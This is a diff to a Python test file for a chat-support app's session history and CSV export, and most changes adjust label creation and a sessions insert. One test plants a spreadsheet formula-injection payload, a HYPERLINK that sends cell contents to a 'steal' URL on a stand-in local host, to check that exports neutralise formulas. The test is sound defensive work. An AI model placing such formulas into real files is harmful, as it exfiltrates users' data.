@@ -54,7 +54,7 @@ def build_history(store, budi: int, sari: int, vip: int) -> dict:
                 w.execute("INSERT INTO contact_labels VALUES (?, ?)", [cid, label_ids[0]])
 
         def session(s, cid, by, start, resolved=None, resolver=None):
-            w.execute("INSERT INTO sessions VALUES (?, ?, ?, ?, NULL, ?, ?)", [s, cid, by, start, resolved, resolver])
+            w.execute("INSERT INTO sessions VALUES (?, ?, ?, ?, ?, ?)", [s, cid, by, start, resolved, resolver])
             w.execute("UPDATE chats SET session_id = ? WHERE id = ?", [s, cid])
 
         def msg(s, cid, channel, when, direction, sender=None, kind="text"):
@@ -95,7 +95,7 @@ def build_history(store, budi: int, sari: int, vip: int) -> dict:
 
 @pytest.fixture
 def history(store, team):
-    vip = labels.create_label(store, "VIP", labels.PALETTE["Purple"], team["admin"])
+    vip = labels.create_label(store, "VIP", "Purple", team["admin"])
     build_history(store, team["budi"], team["sari"], vip)
     return {**team, "vip": vip}
 
@@ -244,7 +244,7 @@ def test_csv_downloads_never_hand_a_spreadsheet_a_formula(store, history):
     evil = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Invoice")'
     store.write(lambda w: w.execute("UPDATE chats SET contact_name = ? WHERE id = (SELECT min(id) FROM chats)",
                                     [evil]))
-    odd = labels.create_label(store, "@SUM(1+1)", labels.PALETTE["Purple"], history["admin"])
+    odd = labels.create_label(store, "@SUM(1+1)", "Purple", history["admin"])
     labels.set_label(store, store.one("SELECT min(id) FROM chats")[0], odd, True, history["admin"])
     sessions = report(store).sessions()
     rows = list(csv.reader(io.StringIO(csv_safe.csv_bytes(sessions).decode())))
